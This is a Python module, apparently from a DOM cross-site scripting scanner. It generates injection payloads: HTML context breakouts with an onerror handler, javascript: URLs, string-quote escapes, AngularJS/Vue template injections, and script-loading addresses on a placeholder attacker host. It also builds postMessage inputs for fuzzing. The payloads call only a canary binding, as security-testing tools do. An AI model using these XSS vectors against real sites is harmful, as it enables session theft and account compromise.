"""Values that call the binding where a sink runs them, and nothing where it does not."""

from __future__ import annotations

import json
import re
import secrets
from collections.abc import Iterable, Iterator
from typing import Any, Literal

Kind = Literal["html", "url", "call", "string", "template", "template3", "away", "away_short"]

TEMPLATES: dict[Kind, str] = {
    # Leaves an attribute, the elements whose content is text, and a script; loads nothing from anywhere.
    "html": "\"'></textarea></title></style></script></noscript><img src=data:, onerror={call}>",
    # An address that is a script; as JavaScript it is a label before the call.
    "url": "javascript:{call}",
    "call": "{call}",
    # Leaves a string of any quote: each time the rest is arithmetic on strings.
    "string": "'-{call}-'\"-{call}-\"${{call}}",
    # Templates that a front end compiles out of the page (AngularJS, Vue 2; Vue 3 hides `constructor`).
    "template": '{{constructor.constructor("{call}")()}}',
    "template3": '{{_openBlock.constructor("{call}")()}}',
    # Another site: to go to, or to load a script from.
    "away": "https://{id}.{attacker}/{id}",
    "away_short": "//{id}.{attacker}/{id}",
}
ADDRESSES = re.compile(r"\.(href|src|action|formAction|formaction|data)$|window\.open|navigation", re.IGNORECASE)
CODE = re.compile(r"eval|Function|setTimeout|setInterval|\.on\w+$|script\.text")


def fresh() -> str:
    """A number that nothing else calls the binding with."""
    return str(100_000_000 + secrets.randbelow(900_000_000))


def value(kind: Kind, name: str, number: str, attacker: str) -> str:
    """The payload of a kind."""
    text = TEMPLATES[kind].replace("{call}", f"{name}({number})")
    return text.replace("{id}", number).replace("{attacker}", attacker)


def fitting(sinks: Iterable[str], *, templates: bool) -> tuple[Kind, ...]:
    """The kinds worth trying, best first, by the sinks that a marked value reached; none: it was written as text."""
    reached = list(sinks)
    order: list[Kind] = ["html"]
    if any(ADDRESSES.search(sink) for sink in reached):
        order = ["url", "away", "away_short", *order]
    if any(CODE.search(sink) for sink in reached):
        order = ["url", "call", "string", *order]
    if reached:
        order += ["html", "url", "call", "string", "away"]
    if templates:
        order += ["template", "template3"]
    return tuple(dict.fromkeys(order))


# --- what a listener for messages takes --------------------------------------------------------------------------

COMPARED = re.compile(r"""\.([A-Za-z_$][\w$]*)\s*===?\s*(["'`])([^"'`]{1,60})\2""")
REVERSED = re.compile(r"""(["'`])([^"'`]{1,60})\1\s*===?\s*[\w$.]*?\.([A-Za-z_$][\w$]*)""")
SWITCHED = re.compile(r"""switch\s*\([\w$.]*?\.([A-Za-z_$][\w$]*)\s*\)""")
CASE = re.compile(r"""case\s*(["'`])([^"'`]{1,60})\1""")
MEMBER = re.compile(r"(?:\.|\?\.)\s*([A-Za-z_$][\w$]*)(?!\s*\()")
TAKEN_APART = re.compile(r"\{\s*([\w$,:\s=]{1,200})\}\s*=")
EVENT = frozenset(
    "data origin source ports lastEventId length href location hash search document window prototype".split()
)
MOST = 12
"""Messages of one shape of listener."""


def messages(listener: str, text: str) -> Iterator[Any]:
    """What to send to a listener: the text alone, and in whatever object its source looks for."""
    yield text
    names = [name for name in MEMBER.findall(listener) if name not in EVENT]
    for group in TAKEN_APART.findall(listener):
        names += [part.partition(":")[0].partition("=")[0].strip() for part in group.split(",")]
    plain = {name: text for name in dict.fromkeys(names) if name and name not in EVENT}
    fixed = {name: word for name, _, word in COMPARED.findall(listener) if name not in EVENT}
    fixed |= {name: word for _, word, name in REVERSED.findall(listener) if name not in EVENT}
    choices: list[dict[str, str]] = [fixed]
    for name in SWITCHED.findall(listener):
        choices += [{**fixed, name: word} for _, word in CASE.findall(listener)]
    for chosen in choices[:MOST]:
        shaped = {**plain, **chosen}
        if shaped:
            yield shaped
            yield json.dumps(shaped)
